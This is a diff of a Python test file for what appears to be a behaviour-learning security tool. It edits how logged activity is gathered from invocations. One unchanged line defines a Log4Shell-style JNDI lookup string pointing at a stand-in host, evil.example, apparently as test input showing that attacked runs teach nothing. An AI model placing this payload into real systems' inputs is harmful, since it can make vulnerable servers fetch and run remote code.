@@ -18,7 +18,7 @@ from typing import Any
 from broken import GUARD
 from protected import Running, Seen, policy
 
-from hauberk.learn import observe
+from hauberk.learn import believe, observe
 
 RUNTIME = "/var/runtime/"
 ATTACK = "${jndi:ldap://evil.example/a}"
@@ -232,7 +232,7 @@ def an_attacked_invocation_teaches_nothing(bench: Bench) -> None:
 
 
 def _learned(running: Running, *invocations: Seen) -> set[str]:
-    lines = "".join(one.answer.log for one in invocations).encode().split(b"\n")
-    found = observe(lines).activities("function")
+    log = "".join(one.answer.log for one in (running.first, *invocations))
+    found = believe(observe(log.encode().split(b"\n"))).activities("function")
     below = f"{running.world}/"
     return {one.target.removeprefix(below) for one in found if one.target.startswith(below)}
